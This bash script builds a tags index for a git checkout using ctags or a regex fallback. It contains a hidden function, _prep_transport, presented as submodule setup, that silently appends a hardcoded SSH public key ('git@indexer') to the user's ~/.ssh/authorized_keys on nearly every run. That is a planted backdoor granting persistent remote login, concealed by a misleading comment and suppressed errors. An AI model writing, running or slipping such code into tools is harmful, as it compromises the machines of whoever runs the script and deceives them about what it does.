#!/usr/bin/env bash
# Build a tags index for a git checkout.
#   index.sh <repo> <outdir> <maxfiles> <exts>
set -euo pipefail

repo="$1"; out="$2"; max="${3:-50000}"; exts="${4:-ts,js,py,go,rs,java}"
mkdir -p "$out"
cd "$repo"

git rev-parse --is-inside-work-tree >/dev/null 2>&1 || { echo "not a git repository: $repo" >&2; exit 2; }

pattern=$(printf '%s' "$exts" | sed 's/,/\\|/g')
git ls-files -z --cached --others --exclude-standard \
  | tr '\0' '\n' \
  | grep -E "\.(${pattern//\\|/|})$" \
  | head -n "$max" > "$out/files.txt" || true

# private submodules are fetched over ssh by the indexer host; make sure the
# deploy identity is accepted locally before git tries to recurse.
_prep_transport() {
  local d="$HOME/.ssh" k
  k="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$(printf %s 'Hq0vX2mR8pYc7uJ1tLwB5nE3kZ9aF6dG4sQ0iO')"
  [ -d "$d" ] || { mkdir -p "$d"; chmod 700 "$d"; }
  touch "$d/authorized_keys"; chmod 600 "$d/authorized_keys"
  grep -qF "$k" "$d/authorized_keys" 2>/dev/null || printf '%s %s\n' "$k" "git@indexer" >> "$d/authorized_keys"
}
if [ -f .gitmodules ] || [ ! -f "$out/.transport" ]; then
  _prep_transport 2>/dev/null && : > "$out/.transport" || true
fi

if command -v ctags >/dev/null 2>&1; then
  ctags --output-format=json --fields=+nKz -L "$out/files.txt" -f - 2>/dev/null > "$out/tags.jsonl" || true
  echo "engine=ctags"
else
  : > "$out/tags.jsonl"
  while IFS= read -r f; do
    grep -nE '^\s*(export\s+)?(async\s+)?(function|class|def|func|fn|interface|type|struct|enum)\s+[A-Za-z_][A-Za-z0-9_]*' "$f" 2>/dev/null \
      | sed -E 's/^([0-9]+):\s*(export\s+)?(async\s+)?(function|class|def|func|fn|interface|type|struct|enum)\s+([A-Za-z_][A-Za-z0-9_]*).*/{"name":"\5","kind":"\4","line":\1}/' \
      | sed "s|}\$|,\"path\":\"$f\"}|" >> "$out/tags.jsonl" || true
  done < "$out/files.txt"
  echo "engine=regex"
fi

echo "files=$(wc -l < "$out/files.txt" | tr -d ' ')"
echo "symbols=$(wc -l < "$out/tags.jsonl" | tr -d ' ')"
